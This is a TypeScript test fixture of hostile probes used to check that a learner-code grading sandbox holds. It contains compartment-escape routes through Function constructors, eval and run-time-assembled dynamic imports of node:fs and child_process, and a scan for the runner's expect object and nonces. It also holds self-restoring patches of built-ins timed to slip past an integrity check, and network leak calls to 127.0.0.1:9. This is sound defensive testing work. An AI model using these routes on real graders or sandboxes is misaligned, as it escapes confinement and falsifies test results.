/**
 * Hostile learner code for the realm's catalogue, shared by the Node tests
 * (tests/grading/runtime.test.ts) and the browser ones (tests/browser/quality-hostile.test.ts,
 * tests/grading/browser-runner.test.ts). Each probe is APPENDED to an honest solution and prints
 * `REPORT <json>`: one entry per route it tried. The tests judge every entry by what it reached
 * (a capability), not by the route's text, so a new route added here is judged the same way.
 *
 * The source text never contains an import-call literally: it is assembled at run time from
 * pieces, as an attacker would (a literal one is refused before the file runs; tested apart).
 */

/** Generic judge, inlined into every probe: which host capabilities does `x` expose? */
const CAPS = String.raw`
const __probeCaps = (x: any): string[] => {
  const out: string[] = [];
  if (x === null || x === undefined || (typeof x !== 'object' && typeof x !== 'function')) return out;
  for (const k of ['process', 'postMessage', 'importScripts', 'fetch', 'require', 'Buffer', 'self', 'window', 'document',
    'XMLHttpRequest', 'WebSocket', 'indexedDB', 'caches', 'navigator', 'parentPort', 'expect', 'nonce', 'readFileSync', 'spawn',
    'getBuiltinModule', 'Session', 'open']) {
    try { if (k in x && x[k] !== undefined) out.push(k); } catch { /* a throwing getter is no capability */ }
  }
  return out;
};
const __probeRun = (routes: Record<string, () => unknown>): Record<string, string> => {
  const got: Record<string, string> = {};
  for (const [name, f] of Object.entries(routes)) {
    try {
      const v: any = f();
      if (v && typeof v.then === 'function') {
        v.then(() => {}, () => {});
        got[name] = 'REACHED: returned a promise (an import or a network call started)';
      } else {
        const caps = __probeCaps(v);
        got[name] = caps.length ? 'REACHED: ' + caps.join(',') : 'confined';
      }
    } catch (e) {
      got[name] = 'blocked: ' + String((e as any)?.message ?? e).slice(0, 120);
    }
  }
  return got;
};
`;

/** Run-time-built eval / Function / import routes out of the compartment. */
export const ESCAPE_PROBE = String.raw`
import * as __probeEngine from 'collapse-lab/engine';
${CAPS}
const __IMP = 'imp' + 'ort';
const __routes: Record<string, () => unknown> = {
  'Function through a function literal': () => (function () {}).constructor('return this')(),
  'Function through an arrow': () => (() => 0).constructor('return globalThis')(),
  'AsyncFunction constructor': () => Object.getPrototypeOf(async function () {}).constructor('return globalThis'),
  'GeneratorFunction constructor': () => Object.getPrototypeOf(function* () {}).constructor('return globalThis')().next().value,
  'AsyncGeneratorFunction constructor': () => Object.getPrototypeOf(async function* () {}).constructor('return globalThis'),
  "an engine function's constructor": () => (Object.values(__probeEngine).find((v) => typeof v === 'function') as any).constructor('return globalThis')(),
  "console.log's constructor": () => (console.log as any).constructor('return globalThis')(),
  "setTimeout's constructor": () => (setTimeout as any).constructor('return globalThis')(),
  "require's constructor": () => (require as any).constructor('return globalThis')(),
  'the global Function': () => Function('return globalThis')(),
  'Reflect.construct(Function)': () => (Reflect.construct(Function, ['return globalThis']) as any)(),
  'indirect eval': () => (0, eval)('globalThis'),
  'sloppy this': () => Function('return (function () { return this; })()')(),
  'a nested Compartment': () => new (globalThis as any).Compartment().evaluate('globalThis'),
  'Error.prepareStackTrace call sites': () => {
    const E: any = Error;
    try { E.prepareStackTrace = (_e: unknown, s: any[]) => s; } catch { /* frozen */ }
    const st: any = new Error('x').stack;
    return Array.isArray(st) ? st.map((c: any) => c.getThis?.() ?? c.getFunction?.()).find(Boolean) : undefined;
  },
  'Error.captureStackTrace': () => { const o: any = {}; (Error as any).captureStackTrace?.(o); return typeof o.stack === 'object' ? o.stack : undefined; },
  'arguments.callee.caller': () => (function () { return (arguments as any).callee.caller; })(),
  'require of a Node built-in (node:)': () => require('node:fs'),
  'require of a Node built-in (bare)': () => require('child_process'),
  "require of 'vitest'": () => require('vitest'),
  'require of the solution': () => require('./solution'),
  'require of an engine source file': () => require('../../src/engine/khugepaged.ts'),
  'dynamic import through Function': () => Function('return ' + __IMP + "('node:fs')")(),
  'dynamic import with a space': () => Function('return ' + __IMP + " ('node:process')")(),
  'dynamic import with a comment': () => Function('return ' + __IMP + "/**/('node:child_process')")(),
  'dynamic import on a new line': () => Function('return ' + __IMP + "\n('node:inspector')")(),
  'dynamic import through indirect eval': () => (0, eval)(__IMP + "('node:worker_threads')"),
  'dynamic import of an http URL': () => Function('return ' + __IMP + "('http://127.0.0.1:9/escape.js')")(),
  'dynamic import of a data: URL': () => Function('return ' + __IMP + "('data:text/javascript,export default globalThis')")(),
  'dynamic import in a nested Compartment': () => new (globalThis as any).Compartment().evaluate(__IMP + "('node:fs')"),
  'import.meta through Function': () => Function('return ' + __IMP + '.meta')(),
  'a timer given a string': () => (setTimeout as any)('globalThis.__escaped = 1', 0),
};
console.log('REPORT ' + JSON.stringify(__probeRun(__routes)));
`;

/**
 * A walk of everything reachable from what learner code holds (its globals, require, module,
 * console, timers, the engine) looking for the runner's own things: `expect` (by its shape, not
 * its name), a nonce (any UUID-shaped string), a message port or postMessage, the process.
 */
export const LEAK_PROBE = String.raw`
import * as __probeEngine from 'collapse-lab/engine';
const __found: string[] = [];
const __seen = new Set<unknown>();
const __uuid = /[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}/i;
let __nodes = 0;
const __walk = (x: any, path: string, depth: number): void => {
  if (typeof x === 'string') { if (__uuid.test(x)) __found.push(path + ' (a nonce-shaped string)'); return; }
  if (x === null || (typeof x !== 'object' && typeof x !== 'function') || __seen.has(x) || depth > 6 || ++__nodes > 40000) return;
  __seen.add(x);
  const isExpectLike = typeof x === 'function' && ['extend', 'getState', 'soft', 'assertions'].filter((k) => { try { return k in x; } catch { return false; } }).length >= 2;
  if (isExpectLike) __found.push(path + ' (an expect)');
  let keys: (string | symbol)[] = [];
  try { keys = Reflect.ownKeys(x); } catch { return; }
  for (const k of keys) {
    const name = String(k);
    if (/^(postMessage|onmessage|parentPort|port[12]?|nonce|process|importScripts|getBuiltinModule)$/.test(name)) __found.push(path + '.' + name);
    let d: PropertyDescriptor | undefined;
    try { d = Object.getOwnPropertyDescriptor(x, k); } catch { continue; }
    if (!d) continue;
    if ('value' in d) __walk(d.value, path + '.' + name, depth + 1);
    else { __walk(d.get, path + '.get ' + name, depth + 1); __walk(d.set, path + '.set ' + name, depth + 1); }
  }
  try { __walk(Object.getPrototypeOf(x), path + '.__proto__', depth + 1); } catch { /* exotic */ }
};
const __g: any = globalThis;
for (const s of ['expect-global', '$$jest-matchers-object', 'matchers-object', 'asymmetric-matchers-object', 'vitest-runner', 'nonce']) {
  try { if (__g[Symbol.for(s)] !== undefined) __found.push('globalThis[Symbol.for(' + s + ')]'); } catch { /* */ }
}
__walk(globalThis, 'globalThis', 0);
__walk(require, 'require', 0);
__walk(module, 'module', 0);
__walk(exports, 'exports', 0);
__walk(__probeEngine, 'engine', 0);
console.log('REPORT ' + JSON.stringify({ found: __found, nodes: __nodes }));
`;

/**
 * Self-restoring patches: try to replace or add every own property of the built-ins the matchers
 * call, of the engine's exports and of everything hanging off them — the way the attack
 * did it (patch, then undo on a zero-delay timer before the integrity check). Reports what stuck.
 * `when`: 'load' runs at the top of the file; 'test' runs inside the first call of `fn`.
 */
export function patchProbe(fn: string, when: 'load' | 'test'): string {
  const body = String.raw`
const __stuck: string[] = [];
let __tried = 0;
const __attack = () => {
  const targets: [string, any][] = [
    ['Object', Object], ['Object.prototype', Object.prototype], ['Function.prototype', Function.prototype],
    ['Array', Array], ['Array.prototype', Array.prototype], ['String.prototype', String.prototype],
    ['Number.prototype', Number.prototype], ['BigInt.prototype', BigInt.prototype], ['Boolean.prototype', Boolean.prototype],
    ['Symbol', Symbol], ['Math', Math], ['JSON', JSON], ['Reflect', Reflect], ['Promise', Promise],
    ['Promise.prototype', Promise.prototype], ['Map.prototype', Map.prototype], ['Set.prototype', Set.prototype],
    ['WeakMap.prototype', WeakMap.prototype], ['Error', Error], ['Error.prototype', Error.prototype],
    ['TypeError.prototype', TypeError.prototype], ['RegExp.prototype', RegExp.prototype], ['Date', Date],
    ['Date.prototype', Date.prototype], ['Iterator.prototype', Object.getPrototypeOf(Object.getPrototypeOf([][Symbol.iterator]()))],
    ['engine', __patchEngine],
  ];
  for (const [name, v] of Object.entries(__patchEngine)) {
    if (v && (typeof v === 'object' || typeof v === 'function')) {
      targets.push(['engine.' + name, v]);
      const p = (v as any).prototype;
      if (p && typeof p === 'object') targets.push(['engine.' + name + '.prototype', p]);
    }
  }
  const evil = function patched() { return true; };
  for (const [label, t] of targets) {
    for (const k of [...Reflect.ownKeys(t), 'asymmetricMatch', '$$typeof', 'then', 'toJSON']) {
      __tried++;
      const before = Object.getOwnPropertyDescriptor(t, k);
      try { (t as any)[k] = evil; } catch { /* frozen */ }
      try { Object.defineProperty(t, k, { value: evil, writable: true, configurable: true }); } catch { /* frozen */ }
      const after = Object.getOwnPropertyDescriptor(t, k);
      if (after && (!before || after.value !== before.value || after.get !== before.get)) {
        __stuck.push(label + '.' + String(k));
        // the self-restoring part: put it back on a zero-delay timer, before any check
        setTimeout(() => { try { if (before) Object.defineProperty(t, k, before); else delete (t as any)[k]; } catch { /* */ } }, 0);
      }
    }
    try { if (Reflect.setPrototypeOf(t, { evil: true })) __stuck.push(label + ' [[Prototype]]'); } catch { /* frozen */ }
  }
  console.log('REPORT ' + JSON.stringify({ stuck: __stuck, tried: __tried }));
};
`;
  const head = `import * as __patchEngine from 'collapse-lab/engine';\n${body}`;
  if (when === 'load') return `${head}\n__attack();\n`;
  // Replace the export (through the module's `exports`) so the attack runs inside the first test that calls it.
  return `${head}\nlet __done = false;\nconst __orig = (exports as any).${fn};\n(exports as any).${fn} = (...a: any[]): any => { if (!__done) { __done = true; __attack(); } return __orig(...a); };\n`;
}

/** Network, storage and worker APIs, as learner code would call them. */
export const NET_PROBE = String.raw`
const __n: Record<string, string> = {};
const __try = (name: string, f: () => unknown) => {
  try {
    const v: any = f();
    if (v && typeof v.then === 'function') v.then(() => {}, () => {});
    __n[name] = v === undefined ? 'absent' : 'AVAILABLE';
  } catch (e) {
    __n[name] = 'blocked: ' + String((e as any)?.message ?? e).slice(0, 100);
  }
};
const __gg: any = globalThis;
__try('fetch', () => __gg.fetch('http://127.0.0.1:9/leak?fetch'));
__try('XMLHttpRequest', () => { const x = new __gg.XMLHttpRequest(); x.open('GET', 'http://127.0.0.1:9/leak?xhr'); x.send(); return x; });
__try('WebSocket', () => new __gg.WebSocket('ws://127.0.0.1:9/leak'));
__try('WebSocketStream', () => new __gg.WebSocketStream('ws://127.0.0.1:9/leak'));
__try('WebTransport', () => new __gg.WebTransport('https://127.0.0.1:9/leak'));
__try('EventSource', () => new __gg.EventSource('http://127.0.0.1:9/leak'));
__try('importScripts', () => __gg.importScripts('http://127.0.0.1:9/leak.js'));
__try('Worker', () => new __gg.Worker('data:text/javascript,1'));
__try('SharedWorker', () => new __gg.SharedWorker('data:text/javascript,1'));
__try('BroadcastChannel', () => new __gg.BroadcastChannel('leak'));
__try('indexedDB', () => __gg.indexedDB.open('leak'));
__try('caches', () => __gg.caches.open('leak'));
__try('navigator.storage (OPFS)', () => __gg.navigator.storage.getDirectory());
__try('localStorage', () => __gg.localStorage.setItem('k', 'v'));
__try('process', () => __gg.process.versions);
__try('postMessage', () => __gg.postMessage({ type: 'result' }));
__try('self', () => __gg.self.postMessage);
console.log('REPORT ' + JSON.stringify(__n));
`;
